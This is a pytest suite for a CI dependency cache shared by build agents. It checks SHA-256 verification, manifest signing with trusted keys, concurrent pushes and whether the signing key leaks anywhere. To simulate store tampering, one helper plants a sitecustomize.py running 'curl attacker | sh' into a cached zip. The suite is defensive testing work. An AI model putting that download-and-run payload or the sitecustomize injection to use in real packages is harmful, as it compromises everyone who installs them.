"""CACHE_URL: a dependency cache shared by CI agents, against a real moto S3 server on 127.0.0.1 and a
real shared folder. Agent A builds and pushes; agent B, another checkout in another folder with an
empty state and no docker on PATH, gets the same bytes from the store. Signed entries: a reader
uses only what a trusted key signed (one test builds with Docker: its own marker)."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import socket
import subprocess
import threading
import uuid
import zipfile
from pathlib import Path

import pytest
from helpers import Fleet, copy_sample, kit_env, make, make_at_once, path_without_docker, unsigned_warning
from lambda_kit.audit import auditnative


def without_docker(tmp_path: Path) -> str:
    path = path_without_docker(tmp_path / "bin-without-docker")
    assert shutil.which("docker", path=path) is None
    return path


def agent(project: Path, cache_url: str, *args: str, **env: str) -> subprocess.CompletedProcess:
    return make(project, "package", *args, env=kit_env(CACHE_URL=cache_url, **env))


def aws_env(local_aws) -> dict[str, str]:
    """The settings that point the kit at the test session's moto server."""
    return local_aws.env({})


def warnings(result: subprocess.CompletedProcess) -> list[str]:
    return [line for line in result.stdout.splitlines() if line.startswith("lambda-kit: warning:")]


def dep_key(result: subprocess.CompletedProcess) -> str:
    """The 12-character key the agent printed."""
    line = next(line for line in result.stdout.splitlines() if "(key " in line)
    return line.split("(key ", 1)[1][:12]


def folder_snapshot(store: Path) -> dict[str, str]:
    return {
        p.relative_to(store).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in store.rglob("*")
        if p.is_file()
    }


def s3_snapshot(s3, bucket: str) -> dict[str, str]:
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket).get("Contents", [])]
    return {k: hashlib.sha256(s3.get_object(Bucket=bucket, Key=k)["Body"].read()).hexdigest() for k in keys}


def new_bucket(fake) -> tuple[object, str]:
    s3 = fake.client("s3")
    bucket = f"lambda-kit-cache-{uuid.uuid4().hex[:12]}"
    s3.create_bucket(Bucket=bucket)
    return s3, bucket


def assert_verified(snapshot: dict[str, str], read) -> None:
    """Every deps.zip in the store matches the digest stored beside it; no temporary object is left."""
    zips = [k for k in snapshot if k.startswith("deps/") and k.endswith(".zip")]
    assert zips and all(read(k + ".sha256").strip() == snapshot[k] for k in zips)
    assert not [k for k in snapshot if k.startswith("tmp/") or k.rsplit("/", 1)[-1].startswith(".")]


def test_folder_store_agent_b_gets_the_same_zip_without_docker_and_a_tampered_object_is_rebuilt(sample, tmp_path):
    store = tmp_path / "shared-mount"
    store.mkdir()
    first = agent(sample, str(store), "BUILDER=local")
    assert first.returncode == 0, first.stderr + first.stdout
    assert "lambda-kit: pushed to cache" in first.stdout
    expected = (sample / "build.zip").read_bytes()
    key = dep_key(first)

    b = copy_sample(tmp_path / "agent-b" / "ws")
    second = agent(b, str(store), "BUILDER=local", PATH=without_docker(tmp_path))
    assert second.returncode == 0, second.stderr + second.stdout
    assert f"lambda-kit: dependencies from cache {store} (key {key}), no build needed (" in second.stdout
    assert "local build" not in second.stdout and warnings(second) == [unsigned_warning(str(store))]
    assert second.stdout.splitlines()[0] == unsigned_warning(str(store))  # the first line of the store's use
    assert (b / "build.zip").read_bytes() == expected
    assert auditnative.load_facts(b / ".lambda-kit" / "audit-native.json")  # the audit's facts came along
    assert auditnative.load_facts(b / ".lambda-kit" / "audit-needed.json")  # and the libraries each needs

    (zipped,) = store.glob("deps/*.zip")
    data = bytearray(zipped.read_bytes())
    data[len(data) // 2] ^= 0xFF
    zipped.write_bytes(bytes(data))
    c = copy_sample(tmp_path / "agent-c" / "ws")
    third = agent(c, str(store), "BUILDER=local", PATH=without_docker(tmp_path))
    assert third.returncode == 0, third.stderr + third.stdout
    first_line, refused = warnings(third)
    assert first_line == unsigned_warning(str(store))
    assert f"deps/{zipped.stem}.zip (key {key}) does not match its SHA-256" in refused
    assert "local build (no Docker)" in third.stdout
    assert "of the lock's files from cache" in third.stdout  # the wheels came from the store, not PyPI
    assert "wheelhouse: 11 files reused, 0 downloaded" in third.stdout
    assert (c / "build.zip").read_bytes() == expected
    assert_verified(folder_snapshot(store), lambda name: (store / name).read_text())  # C pushed a good copy back


def test_s3_store_agent_b_gets_the_same_zip_and_a_truncated_object_is_refused_by_a_read_only_agent(
    sample, tmp_path, local_aws
):
    s3, bucket = new_bucket(local_aws)
    url = f"s3://{bucket}/fleet/python"
    first = agent(sample, url, "BUILDER=local", **aws_env(local_aws))
    assert first.returncode == 0, first.stderr + first.stdout
    expected = (sample / "build.zip").read_bytes()
    key = dep_key(first)
    stored = s3_snapshot(s3, bucket)
    assert all(k.startswith("fleet/python/") for k in stored)
    relative = {k[len("fleet/python/") :]: v for k, v in stored.items()}
    assert len([k for k in relative if k.startswith("wheels/")]) == 11
    assert_verified(
        relative, lambda name: s3.get_object(Bucket=bucket, Key="fleet/python/" + name)["Body"].read().decode()
    )

    b = copy_sample(tmp_path / "agent-b" / "ws")
    second = agent(b, url, "BUILDER=local", PATH=without_docker(tmp_path), **aws_env(local_aws))
    assert second.returncode == 0, second.stderr + second.stdout
    assert f"lambda-kit: dependencies from cache {url} (key {key}), no build needed (" in second.stdout
    assert (b / "build.zip").read_bytes() == expected

    (deps_key,) = [k for k in stored if k.startswith("fleet/python/deps/") and k.endswith(".zip")]
    whole = s3.get_object(Bucket=bucket, Key=deps_key)["Body"].read()
    s3.put_object(Bucket=bucket, Key=deps_key, Body=whole[: len(whole) // 3])
    before = s3_snapshot(s3, bucket)
    c = copy_sample(tmp_path / "agent-c" / "ws")
    third = agent(c, url, "BUILDER=local", "CACHE_PUSH=0", PATH=without_docker(tmp_path), **aws_env(local_aws))
    assert third.returncode == 0, third.stderr + third.stdout
    first_line, refused = warnings(third)
    assert first_line == unsigned_warning(url)
    assert f"(key {key}) does not match its SHA-256 ({len(whole) // 3:,} bytes" in refused
    assert "local build (no Docker)" in third.stdout and "pushed to cache" not in third.stdout
    assert (c / "build.zip").read_bytes() == expected
    assert s3_snapshot(s3, bucket) == before  # CACHE_PUSH=0: the store is untouched


def test_two_agents_pushing_the_same_key_at_once_both_succeed(sample, tmp_path, local_aws):
    s3, bucket = new_bucket(local_aws)
    url = f"s3://{bucket}"
    other = copy_sample(tmp_path / "agent-2" / "ws")
    writer = Fleet(tmp_path / "keys")
    env = kit_env(CACHE_URL=url, CACHE_SIGNING_KEY=writer.private, **aws_env(local_aws))
    results = make_at_once([sample, other], "package", "BUILDER=local", env=env)
    for out, err, code in results:
        assert code == 0, err + out
        assert "lambda-kit: warning" not in out
    assert sum("lambda-kit: pushed to cache" in out for out, _, _ in results) == 2  # both missed, built and pushed
    assert (sample / "build.zip").read_bytes() == (other / "build.zip").read_bytes()
    stored = s3_snapshot(s3, bucket)
    assert_verified(stored, lambda name: s3.get_object(Bucket=bucket, Key=name)["Body"].read().decode())
    (manifest,) = [k for k in stored if k.endswith(".manifest")]
    key = manifest[len("deps/") : -len(".manifest")]
    signed = writer.verifier.check(s3.get_object(Bucket=bucket, Key=manifest)["Body"].read(), key)[1]
    assert {n: d for n, (_, d) in signed.items()} == {n: stored[n] for n in signed}  # the last push's objects


def test_an_unreachable_store_is_one_warning_and_the_build_goes_on(sample):
    with socket.socket() as probe:  # a port nothing listens on
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    fake = {
        "AWS_ENDPOINT_URL": f"http://127.0.0.1:{port}",
        "AWS_ACCESS_KEY_ID": "x",
        "AWS_SECRET_ACCESS_KEY": "x",
        "AWS_DEFAULT_REGION": "us-east-1",
        "AWS_CONFIG_FILE": os.devnull,
    }
    result = agent(sample, "s3://no-such-store/deps", "BUILDER=local", **fake)
    assert result.returncode == 0, result.stderr + result.stdout
    first_line, warning = warnings(result)
    assert first_line == unsigned_warning("s3://no-such-store/deps")
    assert warning.startswith(
        "lambda-kit: warning: cache s3://no-such-store/deps unreachable while looking up the dependencies ("
    )
    assert "local build (no Docker)" in result.stdout and (sample / "build.zip").is_file()


class CommandLines:
    """Every process's command line on this machine, read every 20 ms while the block runs: where
    `secret` would show in `ps`."""

    def __init__(self, secret: str) -> None:
        self.secret, self.read, self.found = secret.encode(), 0, []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self) -> None:
        while not self.stop.wait(0.02):
            for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    text = cmdline.read_bytes()
                except OSError:
                    continue
                self.read += 1
                if self.secret in text:
                    self.found.append(text.split(b"\0")[0].decode(errors="replace"))

    def __enter__(self) -> CommandLines:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.stop.set()
        self.thread.join()


def image_holds(image: str, data: bytes) -> bool:
    """Whether any file of the image holds `data` (its whole file system, streamed by docker export)."""
    cid = subprocess.run(["docker", "create", image, "true"], capture_output=True, text=True, check=True).stdout.strip()
    try:
        with subprocess.Popen(["docker", "export", cid], stdout=subprocess.PIPE) as export:
            tail, found, total = b"", False, 0
            while block := export.stdout.read(1 << 20):
                found = found or data in tail + block
                tail, total = block[-len(data) :], total + len(block)
        assert export.returncode == 0 and total > 10_000_000  # a whole file system was read
        return found
    finally:
        subprocess.run(["docker", "rm", "--force", cid], capture_output=True, check=True)


@pytest.mark.docker
@pytest.mark.usefixtures("no_leftover_containers")
def test_docker_build_signed_into_s3_gives_an_agent_without_docker_the_same_zip_and_the_key_shows_nowhere(
    sample, tmp_path, local_aws
):
    s3, bucket = new_bucket(local_aws)
    url = f"s3://{bucket}/docker"
    writer = Fleet(tmp_path / "ci-secrets")
    pem = Path(writer.private).read_text()
    (secret,) = pem.splitlines()[1:-1]  # the key's base64: what must never leave the environment
    shutil.copy(writer.private, sample / "cache.key")  # a copy left in the checkout reaches no image or zip either
    with CommandLines(secret) as ps:  # exported, as a CI credential is (Jenkins: withCredentials)
        first = agent(sample, url, CACHE_SIGNING_KEY=pem, **aws_env(local_aws))
    try:
        assert first.returncode == 0, first.stderr + first.stdout
        assert "lambda-kit: docker build" in first.stdout and f"signed with key {writer.signer.id})" in first.stdout
        checkout = hashlib.sha256(str(sample.resolve()).encode()).hexdigest()[:12]
        images = subprocess.run(
            ["docker", "image", "ls", "-q", "--filter", f"label=org.lambda-kit.checkout={checkout}"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout.split()
        assert images
        seen = {
            "output": first.stdout + first.stderr,
            "build log": (sample / ".lambda-kit" / "build.log").read_text(errors="replace"),
            "image history": subprocess.run(
                ["docker", "history", "--no-trunc", *images[:1]], capture_output=True, text=True, check=True
            ).stdout,
            "image config": subprocess.run(
                ["docker", "image", "inspect", *images], capture_output=True, text=True, check=True
            ).stdout,
        }
        assert [where for where, text in seen.items() if secret in text] == []
        assert ps.read > 100 and ps.found == []
        assert (
            not image_holds(images[0], secret.encode()) and secret.encode() not in (sample / "build.zip").read_bytes()
        )

        b = copy_sample(tmp_path / "agent-b" / "ws")
        public = Path(writer.public).read_text().strip()  # the public key itself, not a file
        second = agent(b, url, CACHE_TRUSTED_KEYS=public, PATH=without_docker(tmp_path), **aws_env(local_aws))
        assert second.returncode == 0, second.stderr + second.stdout
        assert f"lambda-kit: dependencies from cache {url} (key {dep_key(first)}), no build needed (" in second.stdout
        assert warnings(second) == [] and "pushed" not in second.stdout
        assert (b / "build.zip").read_bytes() == (sample / "build.zip").read_bytes()
    finally:
        assert make(sample, "clean").returncode == 0  # this checkout's images


class StoreView:
    """The store as an attacker with write access sees it: objects by name, read and replaced."""

    def __init__(self, url: str, s3=None, bucket: str = "", prefix: str = "") -> None:
        self.url, self.s3, self.bucket, self.prefix = url, s3, bucket, prefix

    def read(self, name: str) -> bytes:
        if self.s3 is None:
            return (Path(self.url) / name).read_bytes()
        return self.s3.get_object(Bucket=self.bucket, Key=self.prefix + name)["Body"].read()

    def write(self, name: str, data: bytes) -> None:
        if self.s3 is None:
            (Path(self.url) / name).write_bytes(data)
        else:
            self.s3.put_object(Bucket=self.bucket, Key=self.prefix + name, Body=data)

    def delete(self, name: str) -> None:
        if self.s3 is None:
            (Path(self.url) / name).unlink()
        else:
            self.s3.delete_object(Bucket=self.bucket, Key=self.prefix + name)

    def snapshot(self) -> dict[str, str]:
        """Every object's SHA-256, by name under the URL."""
        if self.s3 is None:
            return folder_snapshot(Path(self.url))
        return {k[len(self.prefix) :]: v for k, v in s3_snapshot(self.s3, self.bucket).items()}


def with_module_added(data: bytes) -> bytes:
    """deps.zip with a module added: what an attacker who can write the store would ship."""
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as zf:
        zf.writestr("sitecustomize.py", "import os; os.system('curl attacker | sh')\n")
    return buffer.getvalue()


def attack(view: StoreView, key: str, how: str, writer: Fleet, stranger: Fleet) -> str:
    """Change the store's entry for `key` as an attacker would; returns what the reader's one
    warning must say about deps/<key>.zip."""
    name, envelope = f"deps/{key}.zip", f"deps/{key}.manifest"
    genuine = json.loads(view.read(envelope))
    evil = with_module_added(view.read(name))
    digest = hashlib.sha256(evil).hexdigest()
    view.write(name, evil)
    view.write(name + ".sha256", f"{digest}\n".encode())  # the digest beside it matches, as in the issue
    facts = {n: o for n, o in writer.verifier.check(view.read(envelope), key)[1].items() if n != name}
    if how == "re-signed by an untrusted key":
        view.write(envelope, stranger.signer.envelope(key, {**facts, name: (len(evil), digest)}))
        return f"is signed by key {stranger.signer.id}, which is not a trusted key (CACHE_TRUSTED_KEYS)"
    if how == "unsigned":
        view.delete(envelope)
        return "is not signed (trusted keys are set: nothing unsigned is used)"
    if how == "another key's manifest":  # a genuine signed entry of another key, copied under this one
        other = hashlib.sha256(b"another lock").hexdigest()
        view.write(envelope, writer.signer.envelope(other, {f"deps/{other}.zip": (len(evil), digest)}))
        return f"has a manifest signed by key {writer.signer.id} for another dependency key ({other[:12]})"
    if how == "object swapped":  # the manifest as signed, the zip replaced
        return (
            f"does not match its manifest signed by key {writer.signer.id} ({len(evil):,} bytes, sha256 {digest[:12]}"
        )
    assert how == "truncated signature"
    cut = json.dumps({**genuine, "signature": genuine["signature"][:43]}).encode()
    view.write(envelope, cut)
    return f"has a signature by key {writer.signer.id} that does not verify"


ATTACKS = (
    "re-signed by an untrusted key",
    "unsigned",
    "another key's manifest",
    "object swapped",
    "truncated signature",
)


@pytest.mark.parametrize("kind", ["folder", "s3"])
def test_a_reader_uses_only_entries_a_trusted_key_signed_and_rebuilds_after_each_attack(tmp_path, kind, request):
    """Main-branch agents sign (CACHE_SIGNING_KEY), pull-request agents only read (CACHE_TRUSTED_KEYS):
    each of the five changes an attacker with write access can make is one warning naming the entry
    and the key id, a rebuild that ships the clean build's bytes, and a store left as it was."""
    writer, stranger = Fleet(tmp_path / "ci-keys"), Fleet(tmp_path / "attacker-keys")
    env: dict[str, str] = {}
    if kind == "folder":
        url = str(tmp_path / "shared-mount")
        Path(url).mkdir()
        view = StoreView(url)
    else:
        local_aws = request.getfixturevalue("local_aws")
        s3, bucket = new_bucket(local_aws)
        url, env = f"s3://{bucket}/fleet", aws_env(local_aws)
        view = StoreView(url, s3, bucket, "fleet/")
    main = copy_sample(tmp_path / "main-agent" / "ws")
    built = agent(main, url, "BUILDER=local", CACHE_SIGNING_KEY=writer.private, **env)
    assert built.returncode == 0, built.stderr + built.stdout
    assert built.stdout.splitlines()[0] == (
        f"lambda-kit: cache {url}: signed entries only (trusted keys {writer.signer.id}); "
        f"this agent signs what it pushes with key {writer.signer.id}"
    )
    assert f"signed with key {writer.signer.id}): deps.zip and 11 wheelhouse files" in built.stdout
    expected, key = (main / "build.zip").read_bytes(), dep_key(built)
    (full_key,) = [n[len("deps/") : -len(".manifest")] for n in view.snapshot() if n.endswith(".manifest")]
    clean = view.snapshot()
    clean_bytes = {name: view.read(name) for name in clean}
    no_docker = without_docker(tmp_path)
    reader = dict(CACHE_TRUSTED_KEYS=writer.public, PATH=no_docker, **env)  # CACHE_PUSH left empty: read only

    hit = agent(copy_sample(tmp_path / "pr-agent" / "ws"), url, "BUILDER=local", **reader)
    assert hit.returncode == 0, hit.stderr + hit.stdout
    assert hit.stdout.splitlines()[0] == (
        f"lambda-kit: cache {url}: signed entries only (trusted keys {writer.signer.id}); this agent only reads"
    )
    assert f"dependencies from cache {url} (key {key}), no build needed" in hit.stdout and warnings(hit) == []
    assert (tmp_path / "pr-agent" / "ws" / "build.zip").read_bytes() == expected

    for n, how in enumerate(ATTACKS):
        said = attack(view, full_key, how, writer, stranger)
        attacked = view.snapshot()
        assert attacked != clean
        ws = copy_sample(tmp_path / f"pr-{n}" / "ws")
        result = agent(ws, url, "BUILDER=local", **reader)
        assert result.returncode == 0, how + result.stderr + result.stdout
        (warning,) = warnings(result)
        assert warning.startswith(f"lambda-kit: warning: cache {url}: deps/{full_key}.zip (key {key}) {said}"), how
        assert warning.endswith(": ignored")
        assert "local build (no Docker)" in result.stdout and "no build needed" not in result.stdout, how
        assert (ws / "build.zip").read_bytes() == expected, how  # the clean build's bytes, never the module
        assert view.snapshot() == attacked, how  # a reader never writes
        for name, digest in clean.items():  # the entry put back for the next attack
            if attacked.get(name) != digest:
                view.write(name, clean_bytes[name])
        assert view.snapshot() == clean

    # A writer that meets a changed entry rebuilds it and pushes it signed again: readers hit again.
    attack(view, full_key, "object swapped", writer, stranger)
    again = agent(
        copy_sample(tmp_path / "main-agent-2" / "ws"), url, "BUILDER=local", CACHE_SIGNING_KEY=writer.private, **env
    )
    assert again.returncode == 0, again.stderr + again.stdout
    assert len(warnings(again)) == 1 and "lambda-kit: pushed to cache" in again.stdout
    assert view.snapshot() == clean
